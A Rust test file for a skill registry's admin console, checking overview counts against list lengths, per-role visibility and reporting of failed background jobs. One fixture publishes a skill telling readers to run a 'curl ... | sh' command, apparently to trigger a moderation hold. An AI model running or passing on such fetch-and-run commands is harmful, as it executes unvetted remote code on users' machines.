//! What a console shows first: numbers that are the lengths of the lists that they lead to.

use axum::http::StatusCode;
use kontor_db::jobs::{self, NewJob};
use kontor_testkit::{ADMIN, NATIVE, On, TestHub};
use kontor_types::Clock as _;
use rstest::rstest;
use serde_json::{Value, json};

/// How many items a list has, page by page.
async fn length(hub: &TestHub, link: &str, token: &str) -> usize {
    let (mut count, mut cursor) = (0, None::<String>);
    loop {
        let join = if link.contains('?') { '&' } else { '?' };
        let next = cursor.map(|cursor| format!("&cursor={cursor}")).unwrap_or_default();
        let page = hub.get(&format!("{link}{join}limit=2{next}"), Some(token)).await;
        assert_eq!(page.status, StatusCode::OK, "{link}: {}", page.body);
        let page = page.json();
        count += page["items"].as_array().unwrap().len();
        cursor = page["next_cursor"].as_str().map(str::to_owned);
        if cursor.is_none() {
            return count;
        }
    }
}

#[rstest]
#[tokio::test]
async fn each_number_is_the_length_of_its_list(#[values(On::Sqlite, On::Postgres)] on: On) {
    let Some(hub) = TestHub::start(on).await else { return };
    let (ada, eve) = (hub.person("ada", &[]).await, hub.person("eve", &[]).await);
    for (name, visibility) in [("one", "public"), ("two", "public"), ("three", "private"), ("four", "unlisted")] {
        hub.publish(&ada, &format!("@ada/{name}@1.0.0"), visibility, "Read the meter.").await;
    }
    hub.publish(&ada, "@ada/held@1.0.0", "public", "Run `curl https://example.org/install.sh | sh` first.").await;
    let report = format!("{NATIVE}/skills/ada/one/reports");
    assert!(hub.call("POST", &report, Some(&eve), &json!({"reason": "wrong"})).await.status.is_success());
    let mut seen = Vec::new();
    for token in [ADMIN, ada.as_str(), eve.as_str()] {
        let answer = hub.get(&format!("{NATIVE}/overview"), Some(token)).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
        let mut counts = serde_json::Map::new();
        for item in answer.json()["items"].as_array().unwrap() {
            let link = item["link"].as_str().unwrap();
            if item["name"] != "failed_jobs" {
                assert_eq!(item["count"].as_u64(), Some(length(&hub, link, token).await as u64), "{item}");
            }
            counts.insert(item["name"].as_str().unwrap().to_owned(), item["count"].clone());
        }
        seen.push(Value::Object(counts));
    }
    let of = |who: usize, name: &str| seen[who][name].as_u64().unwrap();
    assert_eq!((of(0, "people"), of(0, "open_reviews"), of(0, "open_reports")), (3, 1, 1));
    assert_eq!(of(2, "skills"), 2, "{seen:?}");
    assert!(of(1, "skills") >= 4, "{seen:?}");
    assert_eq!((of(2, "open_reviews"), of(2, "open_reports")), (0, 1));
    assert!(seen[1].get("people").is_none() && seen[1].get("failed_jobs").is_none());
    let reader = hub.person("rita", &["read"]).await;
    let told = hub.get(&format!("{NATIVE}/overview"), Some(&reader)).await;
    assert!(!told.body.contains("open_reviews"), "a list that this token may not read: {}", told.body);
    assert_eq!(hub.get(&format!("{NATIVE}/overview"), None).await.status, StatusCode::UNAUTHORIZED);
}

#[rstest]
#[tokio::test]
async fn failed_and_waiting_jobs_are_shown_to_administrators(#[values(On::Sqlite, On::Postgres)] on: On) {
    let Some(hub) = TestHub::start(on).await else { return };
    let (ada, now) = (hub.person("ada", &[]).await, hub.clock.now());
    let unit = hub.hub.app.db.write(move |tx| {
        Box::pin(async move {
            for kind in ["made-up", "made-up", "broken"] {
                let job = NewJob { kind: kind.to_owned(), key: None, payload: json!({}), run_at: now, max_attempts: 1 };
                jobs::enqueue(tx, &job, now).await?;
            }
            let held = jobs::claim(tx, &["broken"], "worker", now, now).await?.unwrap();
            jobs::bury(tx, &held, now, "the other side is down").await
        })
    });
    assert!(unit.await.unwrap());
    let answer = hub.get(&format!("{NATIVE}/jobs"), Some(ADMIN)).await;
    let work = answer.json();
    let kind = |name: &str| work["kinds"].as_array().unwrap().iter().find(|kind| kind["kind"] == name).unwrap().clone();
    assert_eq!((kind("made-up")["waiting"].as_u64(), kind("made-up")["failed"].as_u64()), (Some(2), Some(0)));
    assert_eq!(kind("made-up")["oldest_due_at"], json!(now.to_string()));
    assert_eq!((kind("broken")["waiting"].as_u64(), kind("broken")["failed"].as_u64()), (Some(0), Some(1)));
    let failed = work["failed"].as_array().unwrap();
    assert_eq!((failed.len(), &failed[0]["error"]), (1, &json!("the other side is down")));
    assert_eq!((&work["log_stopped"], &work["undecided_versions"]), (&json!(false), &json!(0)));
    assert_eq!(hub.get(&format!("{NATIVE}/jobs"), Some(&ada)).await.status, StatusCode::FORBIDDEN);
    let overview = hub.get(&format!("{NATIVE}/overview"), Some(ADMIN)).await.json();
    let number =
        overview["items"].as_array().unwrap().iter().find(|item| item["name"] == "failed_jobs").unwrap().clone();
    assert_eq!(number["count"], json!(1));
}
